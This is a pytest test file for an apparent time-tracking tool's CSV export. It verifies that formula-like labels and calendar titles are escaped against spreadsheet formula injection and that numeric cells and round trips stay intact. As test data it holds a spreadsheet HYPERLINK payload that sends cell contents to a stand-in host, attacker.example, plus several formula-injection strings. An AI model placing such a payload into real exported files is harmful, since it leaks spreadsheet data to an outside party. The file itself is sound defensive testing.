"""No exported CSV cell runs as a spreadsheet formula (issue 16, item 9).

A session label ``=1+1`` and a calendar title ``=HYPERLINK(...)`` go through the store
and ``holdspace export``; text cells beginning with ``= + - @``, tab or CR come out with a
leading ``'`` (OWASP, "CSV Injection"), numbers (``-2.9``) stay numbers, and the
``beats.csv`` round trip through ``holdspace import --format holdspace-csv`` stays exact.
"""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from companion.cli.main import main
from companion.review.export import csv_line
from companion.store.store import Store
from sensors.rrfiles.beatscsv import FORMULA_STARTS, cell_text, text_cell

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
LABELS = ("=1+1", "+SUM(A1:A9)", "-2+3", "@SUM(1)", "\t=1", "\r=1", "'=1")


@pytest.fixture(scope="module")
def exported(heavy_day_store: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The heavy day with formula-like session labels and a planned session titled
    ``=HYPERLINK(...)`` (a calendar import with titles kept), exported as CSV."""
    base = tmp_path_factory.mktemp("inject")
    data = base / "data"
    shutil.copytree(heavy_day_store, data)
    with Store(data) as store:
        day = store.days()[0]
        last = store.sessions(day)[-1]
        at_s = float(last.end_s or last.start_s) + 60.0
        for label in LABELS:
            sid = store.begin_session("client", label, at_s, "manual")
            store.finish_session(sid, at_s + 120.0)
            at_s += 180.0
        plan = {"uid": "u1", "start_s": at_s, "end_s": at_s + 3000.0, "kind": "client"}
        plan |= {"label": "client-1700", "title": HYPERLINK, "all_day": False}
        store.put_planned([plan], day, day, source="work.ics")  # as `calendar import` stores it
    out = base / "out"
    assert main(["--data-dir", str(data), "export", "--out", str(out)]) == 0
    return out


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_labels_and_calendar_titles_are_text_not_formulas(exported: Path) -> None:
    labels = [row["label"] for row in _rows(exported / "sessions.csv")]
    assert labels[-len(LABELS) :] == ["'" + label for label in LABELS]
    titles = [row["title"] for row in _rows(exported / "planned.csv")]
    assert titles == ["'" + HYPERLINK]


def test_no_cell_of_any_table_starts_a_formula_and_numbers_stay_numbers(exported: Path) -> None:
    negatives = 0
    for path in exported.glob("*.csv"):
        with path.open(newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    if cell.startswith(FORMULA_STARTS):
                        assert _is_number(cell), (path.name, cell)
                        negatives += 1
    assert negatives > 0  # negative numbers (changes against the baseline) are written as is


def test_the_beats_round_trip_stays_exact(exported: Path, tmp_path: Path) -> None:
    again = tmp_path / "again"
    beats = exported / "beats.csv"
    argv = ["--data-dir", str(again), "import", str(beats), "--format", "holdspace-csv"]
    assert main(argv) == 0
    assert main(["--data-dir", str(again), "export", "--out", str(tmp_path / "out2")]) == 0
    assert (tmp_path / "out2" / "beats.csv").read_bytes() == beats.read_bytes()


@given(st.text(max_size=12))
def test_the_reader_undoes_exactly_what_the_writer_added(text: str) -> None:
    cell = text_cell(text)
    assert cell_text(cell) == text
    assert not cell.startswith(FORMULA_STARTS)


@given(st.lists(st.text(alphabet=st.sampled_from('ab, "\n\r=\t'), max_size=6), min_size=2))
def test_csv_line_reads_back_and_matches_csv_writer_but_for_cr(cells: list[str]) -> None:
    line = csv_line(cells)
    assert next(csv.reader(io.StringIO(line, newline=""))) == cells
    if not any("\r" in c for c in cells):
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="\n").writerow(cells)
        assert line == buffer.getvalue()
